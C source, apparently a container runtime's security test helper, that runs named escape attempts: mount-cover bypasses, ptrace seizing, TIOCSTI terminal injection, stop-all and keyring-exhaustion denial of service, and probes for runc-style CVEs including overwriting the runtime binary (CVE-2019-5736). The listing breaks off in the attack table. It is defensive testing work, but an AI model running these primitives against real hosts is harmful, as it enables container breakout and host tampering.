// SPDX-License-Identifier: Apache-2.0
/*
 * attack: one system call (or one trick) that a container's root might try, by name.
 *
 *	attack NAME ARG...
 *
 * Exit status 0: it worked. 1: the kernel refused, and the error's name (EPERM) is on stderr. 2:
 *wrong use. Whether "it worked" is good is the suite's business; some are ordinary work that must
 *succeed. Static, so that it runs in any root file system.
 */
#include "config.h"

#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/loop.h>
#include <linux/magic.h>
#include <linux/mount.h>
#include <linux/seccomp.h>
#include <netinet/in.h>
#include <netinet/ip_icmp.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/timex.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/vfs.h>
#include <sys/wait.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

/* <sys/mount.h> and <linux/mount.h> do not go together in glibc 2.36. */
int mount(const char *source, const char *target, const char *type, unsigned long flags,
	  const void *data);
int umount2(const char *target, int flags);

#ifndef OPEN_TREE_CLONE
#define OPEN_TREE_CLONE 1
#endif
#define UMOUNT_LAZY	      2 /* MNT_DETACH */
#define KEYCTL_GET_ID	      0
#define KEYCTL_SEARCH_KEYRING 10
#define KEY_SESSION	      (-3)
#define KEY_USER_SESSION      (-5)
#define KEY_USER	      (-4)

static int result(long r)
{
	return r < 0 ? -errno : 0;
}

static int tree_open(const char *path, unsigned int flags)
{
	int fd = (int)syscall(SYS_open_tree, AT_FDCWD, path, flags | O_CLOEXEC);

	return fd < 0 ? -errno : fd;
}

static int set_attr(int dirfd, const char *path, unsigned int flags, uint64_t set, uint64_t clear,
		    int userns)
{
	struct mount_attr attr = { .attr_set = set,
				   .attr_clr = clear,
				   .userns_fd = (uint64_t)userns };

	return result(syscall(SYS_mount_setattr, dirfd, path, flags, &attr, sizeof(attr)));
}

/* --- the locked mount tree ------------------------------------------------------------------ */

static int remount_rw(char **a)
{
	return result(mount("none", a[0], NULL, MS_REMOUNT | MS_BIND, NULL));
}

static int remount_rw_super(char **a)
{
	return result(mount("none", a[0], NULL, MS_REMOUNT, NULL));
}

static int remount_rw_setattr(char **a)
{
	return set_attr(AT_FDCWD, a[0], 0, 0, MOUNT_ATTR_RDONLY, 0);
}

static int remount_rw_setattr_recursive(char **a)
{
	return set_attr(AT_FDCWD, a[0], 0x8000, 0, MOUNT_ATTR_RDONLY, 0);
}

/* A detached clone of the mount, made writable where nobody looks. */
static int clone_rw(char **a)
{
	int fd = tree_open(a[0], OPEN_TREE_CLONE);

	return fd < 0 ? fd : set_attr(fd, "", AT_EMPTY_PATH, 0, MOUNT_ATTR_RDONLY, 0);
}

static int clone_recursive_rw(char **a)
{
	int fd = tree_open(a[0], OPEN_TREE_CLONE | 0x8000);

	return fd < 0 ? fd : set_attr(fd, "", AT_EMPTY_PATH | 0x8000, 0, MOUNT_ATTR_RDONLY, 0);
}

static int clear_nodev(char **a)
{
	int r = set_attr(AT_FDCWD, a[0], 0, 0, MOUNT_ATTR_NODEV, 0);

	return r == -ENOSYS ? result(mount("none", a[0], NULL, MS_REMOUNT | MS_BIND, NULL)) : r;
}

static int un_mount(char **a)
{
	return result(umount2(a[0], 0));
}

static int un_mount_lazy(char **a)
{
	return result(umount2(a[0], UMOUNT_LAZY));
}

static int un_mount_flags(char **a)
{
	return result(umount2(a[0], (int)strtol(a[1], NULL, 0)));
}

static int move_old(char **a)
{
	return result(mount(a[0], a[1], NULL, MS_MOVE, NULL));
}

static int move_new(char **a)
{
	int fd = tree_open(a[0], 0);

	return fd < 0 ? fd : result(syscall(SYS_move_mount, fd, "", AT_FDCWD, a[1], 4));
}

static int do_bind(char **a)
{
	return result(mount(a[0], a[1], NULL, MS_BIND, NULL));
}

static int do_rbind(char **a)
{
	return result(mount(a[0], a[1], NULL, MS_BIND | MS_REC, NULL));
}

/* Is that file one that cloister-fs serves? */
static int is_covered(int fd)
{
	struct statfs fs;

	return fstatfs(fd, &fs) == 0 && fs.f_type == 0x65735546 /* FUSE_SUPER_MAGIC */;
}

/*
 * The end of every way around a cover: opens @name below @dir. It worked if that is readable and is
 * not the cover. What lies behind is printed.
 */
static int reach(int dir, const char *name)
{
	int file = openat(dir, name, O_RDONLY | O_NONBLOCK);
	char buf[256];
	ssize_t n;

	if (file < 0)
		return -errno;
	if (is_covered(file))
		return -EACCES;
	n = read(file, buf, sizeof(buf));
	if (n < 0)
		return -errno;
	if (n == 0)
		return -ENODATA;
	printf("reached %s: %.*s\n", name, (int)n, buf);
	return 0;
}

static int covered(char **a)
{
	int fd = open(a[0], O_RDONLY | O_NONBLOCK);

	return fd < 0 ? -errno : is_covered(fd) ? 0 : -ENODATA;
}

static int reach_path(char **a)
{
	return reach(AT_FDCWD, a[0]);
}

/* A detached clone without what is mounted below it. */
static int reach_by_clone(char **a)
{
	int fd = tree_open(a[0], OPEN_TREE_CLONE);

	return fd < 0 ? fd : reach(fd, a[1]);
}

static int reach_by_bind(char **a)
{
	int fd;

	if (mount(a[0], a[2], NULL, MS_BIND, NULL) < 0)
		return -errno;
	fd = open(a[2], O_RDONLY | O_DIRECTORY);
	return fd < 0 ? -errno : reach(fd, a[1]);
}

static int reach_by_rbind(char **a)
{
	char target[4096];
	int fd;

	if (mount(a[0], a[2], NULL, MS_BIND | MS_REC, NULL) < 0)
		return -errno;
	snprintf(target, sizeof(target), "%s/%s", a[2], a[1]);
	umount2(target, 0);
	umount2(target, UMOUNT_LAZY);
	fd = open(a[2], O_RDONLY | O_DIRECTORY);
	return fd < 0 ? -errno : reach(fd, a[1]);
}

/* The whole tree lazily unmounted, and looked at through a directory kept open. */
static int reach_by_old_fd(char **a)
{
	int fd = open(a[0], O_RDONLY | O_DIRECTORY);

	if (fd < 0 || unshare(CLONE_NEWNS) < 0 || umount2(a[0], UMOUNT_LAZY) < 0)
		return -errno;
	return reach(fd, a[1]);
}

static int reach_by_mount(char **a)
{
	int fd;

	if (mount(a[0], a[2], a[0], 0, NULL) < 0)
		return -errno;
	fd = open(a[2], O_RDONLY | O_DIRECTORY);
	return fd < 0 ? -errno : reach(fd, a[1]);
}

static int reach_by_fsmount(char **a)
{
	int fs = (int)syscall(SYS_fsopen, a[0], 0), fd;

	if (fs < 0 || syscall(SYS_fsconfig, fs, 6 /* CREATE */, NULL, NULL, 0) < 0)
		return -errno;
	fd = (int)syscall(SYS_fsmount, fs, 0, 0);
	return fd < 0 ? -errno : reach(fd, a[1]);
}

/* Unlink or rename what is covered: the kernel would drop the cover. */
static int unlink_path(char **a)
{
	return result(unlink(a[0]));
}

/*
 * Can that file be written? Writes what it reads, so that a launcher which fails this test does no
 * harm to the machine; where nothing can be read, an open for writing is enough.
 */
static int write_same(char **a)
{
	char buf[4096];
	int fd = open(a[0], O_RDONLY | O_NONBLOCK);
	ssize_t n = fd < 0 ? 0 : read(fd, buf, sizeof(buf));

	fd = open(a[0], O_WRONLY | O_NONBLOCK);
	if (fd < 0)
		return -errno;
	return n <= 0 ? 0 : write(fd, buf, (size_t)n) < 0 ? -errno : 0;
}

static int overlay(char **a)
{
	char opts[1024];

	snprintf(opts, sizeof(opts), "lowerdir=%s", a[0]);
	if (mount("overlay", a[1], "overlay", 0, opts) == 0)
		return 0;
	/* One lower layer without an upper is refused anyway: try with a second. */
	snprintf(opts, sizeof(opts), "lowerdir=%s:/tmp", a[0]);
	return result(mount("overlay", a[1], "overlay", 0, opts));
}

static int overlay_rw(char **a)
{
	char opts[1024];

	snprintf(opts, sizeof(opts), "lowerdir=%s,upperdir=%s,workdir=%s,userxattr", a[0], a[1],
		 a[2]);
	return result(mount("overlay", a[3], "overlay", 0, opts));
}

static int mount_type(char **a)
{
	return result(mount(a[0], a[1], a[0], 0, strcmp(a[2], "-") == 0 ? NULL : a[2]));
}

static int remount_own(char **a)
{
	if (mount("none", a[0], NULL, MS_REMOUNT | MS_RDONLY, NULL) < 0)
		return -errno;
	return result(mount("none", a[0], NULL, MS_REMOUNT, NULL));
}

static int pivot(char **a)
{
	if (unshare(CLONE_NEWNS) < 0 || mount(a[0], a[0], NULL, MS_BIND | MS_REC, NULL) < 0)
		return -errno;
	if (chdir(a[0]) < 0 || syscall(SYS_pivot_root, ".", ".") < 0)
		return -errno;
	return result(umount2(".", UMOUNT_LAZY));
}

/* From a user namespace in which nobody has a name: whoever helps us there is who? */
static int node_unmapped(char **a)
{
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0)
		return -errno;
	return result(mknod(a[0], S_IFCHR | 0666, makedev(1, 3)));
}

/* Of <linux/nsfs.h> (6.12). */
struct ns_info {
	uint32_t size, nr_mounts;
	uint64_t id;
};
#define NS_USERNS _IO(0xb7, 1)
#define NS_NEXT	  _IOR(0xb7, 11, struct ns_info)

/* In the mount namespace @ns: is there a procfs at the place of "/dev" that shows @file bare? */
static bool shows_bare(int ns, const char *file)
{
	struct statfs fs;
	int status;
	pid_t pid = fork();

	if (pid == 0) {
		if (unshare(CLONE_FS) < 0 || setns(ns, CLONE_NEWNS) < 0 || chdir("/dev") < 0)
			_exit(2);
		_exit(statfs(file, &fs) == 0 && fs.f_type == PROC_SUPER_MAGIC ? 0 : 1);
	}
	return waitpid(pid, &status, 0) == pid && WIFEXITED(status) && WEXITSTATUS(status) == 0;
}

static bool same_owner(int a, int b)
{
	int x = ioctl(a, NS_USERNS), y = ioctl(b, NS_USERNS);
	struct stat s, t;
	bool same = fstat(x, &s) == 0 && fstat(y, &t) == 0 && s.st_ino == t.st_ino;

	close(x);
	close(y);
	return same;
}

/* Whoever has power over their owner can find mount namespaces that are there for a moment. */
static int find_namespace(char **a)
{
	struct timespec end, now;
	struct ns_info info = { sizeof(info) };
	int from = open(a[0], O_RDONLY | O_CLOEXEC), seen = 0;

	if (from < 0)
		return -errno;
	clock_gettime(CLOCK_MONOTONIC, &end);
	end.tv_sec += atoi(a[2]);
	do {
		int at = fcntl(from, F_DUPFD_CLOEXEC, 0), next;

		while ((next = ioctl(at, NS_NEXT, &info)) >= 0) {
			close(at);
			at = next;
			if (!same_owner(from, at))
				continue;
			seen++;
			if (shows_bare(at, a[1]))
				return 0;
		}
		close(at);
		if (errno != ENOENT)
			return -errno;
		clock_gettime(CLOCK_MONOTONIC, &now);
	} while (now.tv_sec < end.tv_sec);
	printf("%d\n", seen);
	return -ENOENT;
}

/* The classic: a file handle of inode 2, opened through any mount of the same file system. */
static int open_by_handle(char **a)
{
	struct {
		unsigned int bytes;
		int type;
		uint32_t ino, gen;
	} fh = { 8, 1, 2, 0 };
	int mnt = open(a[0], O_RDONLY);

	return mnt < 0 ? -errno : result(syscall(SYS_open_by_handle_at, mnt, &fh, O_RDONLY));
}

static pid_t userns_child(void)
{
	int up[2];
	char c;
	pid_t pid;

	if (pipe2(up, O_CLOEXEC) < 0)
		return -1;
	pid = fork();
	if (pid == 0) {
		prctl(PR_SET_PDEATHSIG, SIGKILL);
		if (unshare(CLONE_NEWUSER) == 0 && write(up[1], "x", 1) == 1)
			pause();
		_exit(1);
	}
	close(up[1]);
	if (read(up[0], &c, 1) != 1)
		pid = -1;
	close(up[0]);
	return pid;
}

/* On the host: can this very directory be ID-mapped? */
static int can_idmap(char **a)
{
	pid_t pid = userns_child();
	char path[64];
	int fd, ns, tree, r;

	if (pid < 0)
		return -EPERM;
	for (int i = 0; i < 2; i++) {
		snprintf(path, sizeof(path), "/proc/%d/%cid_map", pid, "ug"[i]);
		fd = open(path, O_WRONLY);
		if (fd < 0 || write(fd, "0 100000 65536\n", 15) != 15)
			return -EPERM;
		close(fd);
	}
	snprintf(path, sizeof(path), "/proc/%d/ns/user", pid);
	ns = open(path, O_RDONLY);
	tree = tree_open(a[0], OPEN_TREE_CLONE);
	r = tree < 0 ? tree : set_attr(tree, "", AT_EMPTY_PATH, MOUNT_ATTR_IDMAP, 0, ns);
	kill(pid, SIGKILL);
	waitpid(pid, NULL, 0);
	return r;
}

/* --- devices, modules, clock, bpf ------------------------------------------------------------ */

static int device(char **a)
{
	mode_t type = a[1][0] == 'b' ? S_IFBLK : S_IFCHR;
	int fd;

	unlink(a[0]);
	if (mknod(a[0], type | 0666, makedev((unsigned)atoi(a[2]), (unsigned)atoi(a[3]))) < 0)
		return -errno;
	fd = open(a[0], O_RDONLY | O_NONBLOCK);
	return fd < 0 ? -errno : 0;
}

static int open_path(char **a)
{
	return result(open(a[0], O_RDWR | O_NONBLOCK | O_NOCTTY));
}

static int loop_free(char **a)
{
	int fd = open(a[0], O_RDWR);

	return fd < 0 ? -errno : result(ioctl(fd, LOOP_CTL_GET_FREE));
}

static int load_module(char **a)
{
	static const char nonsense[] = "not a module";

	return result(syscall(SYS_init_module, nonsense, sizeof(nonsense), ""));
}

static int unload_module(char **a)
{
	return result(syscall(SYS_delete_module, a[0], O_NONBLOCK));
}

/* Sets the clock to what it is: a success changes nothing. */
static int set_clock(char **a)
{
	struct timespec ts;

	clock_gettime(CLOCK_REALTIME, &ts);
	return result(clock_settime(CLOCK_REALTIME, &ts));
}

static int adjust_clock(char **a)
{
	struct timex tx = { .modes = ADJ_FREQUENCY };
	struct timex old = { 0 };

	if (adjtimex(&old) < 0)
		return -errno;
	tx.freq = old.freq;
	return result(adjtimex(&tx));
}

static int bpf_next_id(char **a)
{
	union bpf_attr attr = { .start_id = 0 };

	return result(syscall(SYS_bpf, BPF_MAP_GET_NEXT_ID, &attr, sizeof(attr)));
}

static int bpf_load(char **a)
{
	struct bpf_insn insns[] = { { .code = BPF_ALU64 | BPF_MOV | BPF_K },
				    { .code = BPF_JMP | BPF_EXIT } };
	union bpf_attr attr = { .prog_type = BPF_PROG_TYPE_KPROBE,
				.insn_cnt = 2,
				.insns = (uint64_t)(uintptr_t)insns,
				.license = (uint64_t)(uintptr_t) "GPL" };

	return result(syscall(SYS_bpf, BPF_PROG_LOAD, &attr, sizeof(attr)));
}

static int io_privilege(char **a)
{
	return result(syscall(SYS_iopl, 3));
}

static int set_hostname(char **a)
{
	return result(sethostname(a[0], strlen(a[0])));
}

static int raise_limit(char **a)
{
	struct rlimit lim;

	getrlimit(RLIMIT_NOFILE, &lim);
	lim.rlim_max++;
	return result(setrlimit(RLIMIT_NOFILE, &lim));
}

/* --- what the first process has inherited ----------------------------------------------------- */

static int show_fds(char **a)
{
	DIR *dir = opendir("/proc/self/fd");
	struct dirent *de;

	while (dir && (de = readdir(dir))) {
		char path[300], target[256];
		ssize_t n;

		if (de->d_name[0] == '.' || atoi(de->d_name) == dirfd(dir))
			continue;
		snprintf(path, sizeof(path), "/proc/self/fd/%s", de->d_name);
		n = readlink(path, target, sizeof(target) - 1);
		printf("%s %.*s\n", de->d_name, (int)(n < 0 ? 0 : n), target);
	}
	return dir ? 0 : -errno;
}

/* Everything that one process hands to the next without a word, one a line. */
static int show_inherited(char **a)
{
	cpu_set_t cpus;
	struct rlimit lim;
	sigset_t set;
	int ignored = 0, blocked = 0;
	char cwd[4096];

	sigprocmask(SIG_BLOCK, NULL, &set);
	for (int s = 1; s < 64; s++) {
		struct sigaction sa;

		if (s != 32 && s != 33 && sigaction(s, NULL, &sa) == 0 && sa.sa_handler == SIG_IGN)
			ignored++;
		blocked += sigismember(&set, s) == 1;
	}
	printf("ignored %d\nblocked %d\n", ignored, blocked);
	printf("cwd %s\n", getcwd(cwd, sizeof(cwd)) ? cwd : "?");
	umask(0022);
	sched_getaffinity(0, sizeof(cpus), &cpus);
	printf("cpus %d\nnice %d\n", CPU_COUNT(&cpus), getpriority(PRIO_PROCESS, 0));
	printf("policy %d\n", sched_getscheduler(0));
	for (int r = 0; r < (int)RLIM_NLIMITS; r++) {
		getrlimit((__rlimit_resource_t)r, &lim);
		printf("rlimit-%d %lld %lld\n", r, (long long)lim.rlim_cur,
		       (long long)lim.rlim_max);
	}
	printf("dumpable %d\nno-new-privs %d\npdeathsig-free %d\n", prctl(PR_GET_DUMPABLE),
	       prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0),
	       prctl(PR_GET_PDEATHSIG, &ignored) == 0 && ignored == 0);
	printf("securebits %d\nkeepcaps %d\n", prctl(PR_GET_SECUREBITS), prctl(PR_GET_KEEPCAPS));
	printf("session-leader %d\ngroups %d\n", getsid(0) == getpid(), getgroups(0, NULL));
	return 0;
}

static int key_search(char **a)
{
	const int rings[] = { KEY_SESSION, KEY_USER_SESSION, KEY_USER };
	int r = -ENOKEY;

	for (size_t i = 0; i < sizeof(rings) / sizeof(*rings); i++)
		if (syscall(SYS_keyctl, KEYCTL_SEARCH_KEYRING, rings[i], "user", a[0], 0) > 0)
			return 0;
	if (syscall(SYS_request_key, "user", a[0], NULL, 0) > 0)
		return 0;
	return r;
}

/* Stop whatever can be stopped for so many milliseconds, then for as long leave it so; continue it.
 */
static int stop_all(char **a)
{
	struct timespec until, now;
	long ms = atol(a[0]);

	clock_gettime(CLOCK_MONOTONIC, &until);
	until.tv_sec += ms / 1000;
	do {
		kill(-1, SIGSTOP);
		clock_gettime(CLOCK_MONOTONIC, &now);
	} while (now.tv_sec < until.tv_sec);
	usleep(ms * 1000);
	return result(kill(-1, SIGCONT));
}

/* Use up the quota of keys and keep it so, whoever gives back some. */
static int key_fill(char **a)
{
	char name[32];

	for (int i = 0;; i++) {
		snprintf(name, sizeof(name), "%s%d", a[0], i);
		if (syscall(SYS_add_key, "user", name, "x", 1, -2 /* the process' keyring */) < 0)
			usleep(1000);
	}
	return 0;
}

/* On the host: a new session keyring with the key, then the rest of the command line in it. */
static int with_key(char **a)
{
	if (syscall(SYS_keyctl, 1 /* JOIN_SESSION_KEYRING */, "cloister-test") < 0 ||
	    syscall(SYS_add_key, "user", a[0], "secret", 6, KEY_SESSION) < 0)
		return -errno;
	execvp(a[1], a + 1);
	return -errno;
}

/* On the host: a process as badly brought up as a parent can be, then the rest in it. */
static int spoiled(char **a)
{
	struct rlimit files = { 256, 512 }, core = { 4096, 8192 };
	cpu_set_t cpu;
	sigset_t set;

	CPU_ZERO(&cpu);
	CPU_SET(0, &cpu);
	sched_setaffinity(0, sizeof(cpu), &cpu);
	setpriority(PRIO_PROCESS, 0, 5);
	setrlimit(RLIMIT_NOFILE, &files);
	setrlimit(RLIMIT_CORE, &core);
	sigfillset(&set);
	sigprocmask(SIG_SETMASK, &set, NULL);
	signal(SIGPIPE, SIG_IGN);
	signal(SIGHUP, SIG_IGN);
	signal(SIGUSR1, SIG_IGN);
	signal(SIGTERM, SIG_IGN);
	umask(0777);
	setenv("SPOILED_SECRET", "leaked", 1);
	if (open("/etc/passwd", O_RDONLY) < 0 || open("/", O_RDONLY | O_DIRECTORY) < 0)
		return -errno;
	dup2(open("/etc/hostname", O_RDONLY), 77);
	execvp(a[0], a);
	return -errno;
}

/* --- other processes, terminals ----------------------------------------------------------------
 */

static bool is_number(const char *s)
{
	return s[0] && strspn(s, "0123456789") == strlen(s);
}

static void read_comm(pid_t pid, char *comm, size_t size)
{
	char path[64];
	ssize_t n = -1;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/comm", pid);
	fd = open(path, O_RDONLY);
	if (fd >= 0) {
		n = read(fd, comm, size - 1);
		close(fd);
	}
	comm[n < 0 ? 0 : n] = '\0';
}

/*
 * Tries to seize, read or look into every process that is neither us nor our ancestor, again and
 * again for a[0] ms: a helper that passes through is caught. Succeeds if any could be taken.
 */
static int seize_all(char **a)
{
	struct timespec start, now;
	int taken = 0, ms = atoi(a[0]);

	clock_gettime(CLOCK_MONOTONIC, &start);
	do {
		DIR *proc = opendir("/proc");
		struct dirent *de;

		while (proc && (de = readdir(proc))) {
			pid_t pid = atoi(de->d_name);
			char path[64], comm[64] = "";
			int fd;

			if (!is_number(de->d_name) || pid == getpid() || pid == getppid() ||
			    pid == 1)
				continue;
			read_comm(pid, comm, sizeof(comm));
			if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) == 0) {
				/* Stopped, so that its name is that of what was seized, not of
				 * before or after. */
				ptrace(PTRACE_INTERRUPT, pid, NULL, NULL);
				waitpid(pid, NULL, __WALL);
				read_comm(pid, comm, sizeof(comm));
				printf("seized %d %s", pid, comm);
				ptrace(PTRACE_DETACH, pid, NULL, NULL);
				taken++;
			}
			snprintf(path, sizeof(path), "/proc/%d/root", pid);
			fd = open(path, O_RDONLY | O_DIRECTORY);
			if (fd >= 0) {
				struct stat theirs, ours;

				if (fstat(fd, &theirs) == 0 && stat("/", &ours) == 0 &&
				    (theirs.st_dev != ours.st_dev ||
				     theirs.st_ino != ours.st_ino)) {
					printf("another root in %d %s", pid, comm);
					taken++;
				}
				close(fd);
			}
		}
		if (proc)
			closedir(proc);
		clock_gettime(CLOCK_MONOTONIC, &now);
	} while ((now.tv_sec - start.tv_sec) * 1000 + (now.tv_nsec - start.tv_nsec) / 1000000 < ms);
	fflush(stdout);
	return taken ? 0 : -ESRCH;
}

static int push_into(int fd, const char *text)
{
	for (; *text; text++)
		if (ioctl(fd, TIOCSTI, text) < 0)
			return -errno;
	return 0;
}

/* Keeps the terminal on stdout open and writes to it for a minute, after its session's end. */
static int leave_flood(char **a)
{
	static const char text[4096] = { 0 };
	time_t end = time(NULL) + 60;

	(void)a;
	signal(SIGHUP, SIG_IGN);
	for (int i = 0; i < 4; i++)
		if (fork() == 0) {
			while (time(NULL) < end && write(STDOUT_FILENO, text, sizeof(text)) > 0)
				;
			_exit(0);
		}
	usleep(100000);
	ioctl(STDOUT_FILENO, TIOCNOTTY);
	return 0;
}

/* TIOCSTI through every open descriptor, /dev/tty, /dev/console and (unless a[1]) every pts. */
static int push_tty(char **a)
{
	int worked = 0, fd;
	DIR *pts;

	for (fd = 0; fd < 256; fd++)
		worked += push_into(fd, a[0]) == 0;
	for (int i = 0; i < 2; i++) {
		fd = open(i ? "/dev/console" : "/dev/tty", O_RDWR | O_NOCTTY | O_NONBLOCK);
		if (fd >= 0)
			worked += push_into(fd, a[0]) == 0;
	}
	pts = a[1] ? NULL : opendir("/dev/pts");
	for (struct dirent *de; pts && (de = readdir(pts));) {
		fd = openat(dirfd(pts), de->d_name, O_RDWR | O_NONBLOCK);
		if (fd < 0)
			continue;
		ioctl(fd, TIOCSCTTY, 1);
		worked += push_into(fd, a[0]) == 0;
	}
	return worked ? 0 : -EPERM;
}

/* --- races with the runtime --------------------------------------------------------------------
 */

static bool is_runtime(pid_t pid)
{
	char comm[64] = "";

	read_comm(pid, comm, sizeof(comm));
	return strncmp(comm, "cloister", 8) == 0;
}

static int64_t milliseconds(void)
{
	struct timespec now;

	clock_gettime(CLOCK_MONOTONIC, &now);
	return now.tv_sec * 1000LL + now.tv_nsec / 1000000;
}

static bool executes_runtime(pid_t pid)
{
	char path[64], target[512];
	ssize_t n;

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	n = readlink(path, target, sizeof(target) - 1);
	target[n > 0 ? n : 0] = '\0';
	return strstr(target, "cloister") != NULL;
}

/* Through /proc/PID of the runtime's process while it joins: what can be opened of it? */
static int look_into(pid_t pid)
{
	static const char *const files[] = { "mem", "environ", "exe", "root", "cwd", "fd", "maps" };
	int worked = 0;

	for (size_t i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
		char path[64];
		int fd;

		snprintf(path, sizeof(path), "/proc/%d/%s", pid, files[i]);
		fd = open(path, O_RDONLY);
		/* At its exec it gets its new name a moment after its new memory. */
		if (fd >= 0 && executes_runtime(pid)) {
			printf("opened %s of the runtime\n", path);
			worked++;
		}
		if (fd >= 0)
			close(fd);
	}
	return worked;
}

/* CVE-2016-9962. Prints "met N": how many times one of the runtime's processes was there to look
 * at. */
static int snoop(char **a)
{
	int64_t end = milliseconds() + atoi(a[0]);
	int met = 0, worked = 0;

	while (milliseconds() < end) {
		DIR *proc = opendir("/proc");
		struct dirent *de;

		while (proc && (de = readdir(proc))) {
			pid_t pid = atoi(de->d_name);

			if (!is_number(de->d_name) || pid == getpid() || !is_runtime(pid))
				continue;
			met++;
			worked += look_into(pid);
		}
		if (proc)
			closedir(proc);
	}
	printf("met %d\n", met);
	return worked ? 0 : -EPERM;
}

/* Hold @fd's program until nobody executes it, then open it for writing. */
static int write_to_program(int fd)
{
	char path[64];

	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	for (int i = 0; i < 200; i++) {
		int w = open(path, O_WRONLY);

		if (w >= 0 || errno != ETXTBSY)
			return result(w);
		usleep(5000);
	}
	return -ETXTBSY;
}

/*
 * CVE-2019-5736: wait for a process that executes the runtime's program (a script with
 * "#!/proc/self/exe" makes it do so), take hold of that program and write to it. Prints "reached
 * N".
 */
static int overwrite_runtime(char **a)
{
	int64_t end = milliseconds() + atoi(a[0]);
	int reached = 0, worked = 0, error = EPERM;

	while (milliseconds() < end && !worked) {
		DIR *proc = opendir("/proc");
		struct dirent *de;

		while (proc && (de = readdir(proc))) {
			char path[NAME_MAX + 16];
			int fd, r;

			if (!is_number(de->d_name) || atoi(de->d_name) == getpid() ||
			    !executes_runtime(atoi(de->d_name)))
				continue;
			snprintf(path, sizeof(path), "/proc/%s/exe", de->d_name);
			fd = open(path, O_RDONLY);
			if (fd < 0)
				continue;
			reached++;
			r = write_to_program(fd);
			worked += r == 0;
			error = r < 0 ? -r : error;
			close(fd);
		}
		if (proc)
			closedir(proc);
	}
	printf("reached %d\n", reached);
	return worked ? 0 : -error;
}

/* CVE-2021-30465: swap A and B (a directory and a symlink, say) until the file STOP appears. */
static int swap_forever(char **a)
{
	int n = 0;

	while (access(a[2], F_OK) < 0) {
		if (syscall(SYS_renameat2, AT_FDCWD, a[0], AT_FDCWD, a[1],
			    2 /* RENAME_EXCHANGE */) < 0)
			return -errno;
		n++;
	}
	printf("swapped %d\n", n);
	return 0;
}

/* CVE-2024-21626: does any descriptor, or the working directory, lead to a directory that has FILE?
 */
static int find_through_fds(char **a)
{
	int worked = access(a[0], F_OK) == 0;
	char up[512];

	for (int fd = 0; fd < 1024; fd++)
		for (int depth = 0; depth < 8; depth++) {
			int n = 0;

			for (int i = 0; i < depth; i++)
				n += snprintf(up + n, sizeof(up) - n, "../");
			snprintf(up + n, sizeof(up) - n, "%s", a[0]);
			if (faccessat(fd ? fd : AT_FDCWD, up, F_OK, 0) == 0) {
				printf("found through %d\n", fd ? fd : -1);
				worked++;
			}
		}
	return worked ? 0 : -ENOENT;
}

/* --- facts -------------------------------------------------------------------------------------
 */

static int show_kernel(char **a)
{
	struct seccomp_notif_sizes sizes;

	if (syscall(SYS_seccomp, SECCOMP_GET_NOTIF_SIZES, 0, &sizes) == 0)
		printf("seccomp-notify %u\n", sizes.seccomp_notif);
	if (set_attr(-1, "", 0, 0, 0, 0) != -ENOSYS)
		printf("mount_setattr\n");
	return 0;
}

/* Seconds of a clock, as programs see it: realtime, monotonic, boottime. */
static int show_clock(char **a)
{
	struct timespec ts;
	clockid_t id = a[0][0] == 'r'	? CLOCK_REALTIME
		       : a[0][0] == 'm' ? CLOCK_MONOTONIC
					: CLOCK_BOOTTIME;

	clock_gettime(id, &ts);
	printf("%lld.%02ld\n", (long long)ts.tv_sec, ts.tv_nsec / 10000000);
	return 0;
}

/* An ICMP echo without a raw socket, as ping(8) does it where net.ipv4.ping_group_range allows it.
 */
static int ping(char **a)
{
	struct icmphdr request = { .type = ICMP_ECHO };
	struct sockaddr_in to = { .sin_family = AF_INET };
	struct timeval limit = { .tv_sec = 5 };
	struct icmphdr answer = { 0 };
	int fd = socket(AF_INET, SOCK_DGRAM, IPPROTO_ICMP);

	if (fd < 0 || inet_pton(AF_INET, a[0], &to.sin_addr) != 1)
		return result(-1);
	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &limit, sizeof(limit));
	if (sendto(fd, &request, sizeof(request), 0, (void *)&to, sizeof(to)) < 0 ||
	    recv(fd, &answer, sizeof(answer), 0) < 0)
		return result(-1);
	puts(answer.type == ICMP_ECHOREPLY ? "answered" : "something else");
	return 0;
}

/* @first: 1: of an abstract socket, 0: of one in the file system */
static int connect_unix(const char *name, size_t first)
{
	struct sockaddr_un to = { .sun_family = AF_UNIX };
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);
	size_t n = snprintf(to.sun_path + first, sizeof(to.sun_path) - first, "%s", name);

	return result(connect(fd, (void *)&to, offsetof(struct sockaddr_un, sun_path) + first + n));
}

static int connect_abstract(char **a)
{
	return connect_unix(a[0], 1);
}

static int connect_path(char **a)
{
	return connect_unix(a[0], 0);
}

static int die_by(char **a)
{
	return result(kill(getpid(), atoi(a[0])));
}

/* Holds a[0] MiB of touched memory until it is read from stdin. */
static int hold_memory(char **a)
{
	size_t size = (size_t)atoi(a[0]) << 20;
	char *p = malloc(size), c;

	if (!p)
		return -ENOMEM;
	memset(p, 1, size);
	printf("held\n");
	fflush(stdout);
	return read(0, &c, 1) < 0 ? -errno : p[0] == 1 ? 0 : -EIO;
}

static const struct attack {
	const char *name;
	int (*run)(char **args);
	int n_args;
	const char *args;
} attacks[] = {
	{ "remount-rw", remount_rw, 1, "DIR" },
	{ "remount-rw-super", remount_rw_super, 1, "DIR" },
	{ "remount-rw-setattr", remount_rw_setattr, 1, "DIR" },
	{ "remount-rw-setattr-recursive", remount_rw_setattr_recursive, 1, "DIR" },
	{ "clone-rw", clone_rw, 1, "DIR" },
	{ "clone-recursive-rw", clone_recursive_rw, 1, "DIR" },
	{ "clear-nodev", clear_nodev, 1, "DIR" },
	{ "umount", un_mount, 1, "PATH" },
	{ "umount-lazy", un_mount_lazy, 1, "PATH" },
